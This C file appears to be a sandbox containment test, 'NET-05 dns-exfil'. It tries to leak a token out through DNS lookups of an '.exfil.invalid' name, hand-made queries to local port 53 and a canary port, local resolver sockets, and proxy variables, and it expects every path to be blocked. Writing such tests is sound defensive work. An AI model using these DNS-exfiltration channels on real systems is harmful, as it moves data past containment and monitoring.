/* NET-05 dns-exfil: smuggle a token out in a DNS name - getaddrinfo and
 * res_query of "<token>.exfil.invalid", a hand-made query to port 53 and
 * to the host's fake DNS server (CANARY_UDP_PORT) on 127.0.0.1, the
 * resolvers behind unix sockets (nscd, systemd-resolved, D-Bus), and a
 * proxy from the environment.  The run allows the network group, so the
 * resolver really sends: into the sandbox's own lo, where nothing
 * listens.  Name resolution fails (EAI_NONAME: the sandbox's nsswitch
 * says "hosts: files"; res_query: TRY_AGAIN), the queries are refused
 * (ECONNREFUSED), the sockets are not there (ENOENT), no proxy variable
 * is set, and the host's DNS canary counts nothing (H3). */
#include "attack.h"

#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>

#define NAME "net05-token-3f9c1b.exfil.invalid"

static const char *gai_name(int r)
{
	switch (r) {
	case 0:
		return "ok";
	case EAI_NONAME:
		return "EAI_NONAME";
	case EAI_AGAIN:
		return "EAI_AGAIN";
	case EAI_FAIL:
		return "EAI_FAIL";
	case EAI_NODATA:
		return "EAI_NODATA";
	case EAI_SYSTEM:
		return strerrorname_np(errno);
	default:
		return "EAI_OTHER";
	}
}

static const char *h_name(int h)
{
	switch (h) {
	case HOST_NOT_FOUND:
		return "HOST_NOT_FOUND";
	case TRY_AGAIN:
		return "TRY_AGAIN";
	case NO_RECOVERY:
		return "NO_RECOVERY";
	case NO_DATA:
		return "NO_DATA";
	default:
		return "H_OTHER";
	}
}

/* A DNS query for NAME, sent to 127.0.0.1:port; then wait for an answer
 * (the host's fake server never answers: 1 s at most). */
static void query(const char *tag, int port)
{
	char name[96];
	unsigned char q[512];
	int len = res_mkquery(ns_o_query, NAME, ns_c_in, ns_t_a, NULL, 0, NULL,
			      q, sizeof(q));
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
	struct timeval tv = {.tv_sec = 1};
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	snprintf(name, sizeof(name), "connect-%s", tag);
	TRY(name, connect(s, (struct sockaddr *)&a, sizeof(a)));
	snprintf(name, sizeof(name), "send-query-%s", tag);
	TRY(name, send(s, q, len > 0 ? (size_t)len : 0, 0));
	snprintf(name, sizeof(name), "payoff-answer-%s", tag);
	TRY(name, recv(s, q, sizeof(q), 0));
	close(s);
}

static void unix_sock(const char *name, const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strcpy(a.sun_path, path);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	TRY(name, connect(s, (struct sockaddr *)&a, sizeof(a)));
	close(s);
}

int main(void)
{
	struct addrinfo *ai = NULL;
	int r = getaddrinfo(NAME, "80", NULL, &ai);
	printf("payoff-getaddrinfo %s\n", gai_name(r));
	if (!r)
		freeaddrinfo(ai);
	struct addrinfo hints = {.ai_family = AF_INET6,
				 .ai_flags = AI_CANONNAME};
	r = getaddrinfo(NAME, NULL, &hints, &ai);
	printf("payoff-getaddrinfo-inet6 %s\n", gai_name(r));
	if (!r)
		freeaddrinfo(ai);
	fflush(stdout);

	/* the resolver library itself: it defaults to 127.0.0.1:53 */
	unsigned char answer[512];
	h_errno = 0;
	int n = res_query(NAME, ns_c_in, ns_t_txt, answer, sizeof(answer));
	printf("payoff-res-query %s\n", n >= 0 ? "ok" : h_name(h_errno));
	fflush(stdout);

	query("port-53", 53);
	int port = atoi(canary("UDP_PORT"));
	if (port)
		query("dns-canary", port);

	/* resolvers behind unix sockets */
	unix_sock("payoff-nscd", "/var/run/nscd/socket");
	unix_sock("payoff-resolved-varlink",
		  "/run/systemd/resolve/io.systemd.Resolve");
	unix_sock("payoff-dbus-resolve1", "/run/dbus/system_bus_socket");

	/* a proxy from the environment would be a way out: none is set */
	static const char *proxies[] = {
		"http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY",
		"all_proxy",  "ALL_PROXY",   "ftp_proxy",  "no_proxy"};
	for (size_t i = 0; i < sizeof(proxies) / sizeof(proxies[0]); i++)
		if (getenv(proxies[i]))
			escaped("%s is set in the sandbox", proxies[i]);
	done();
	return 0;
}
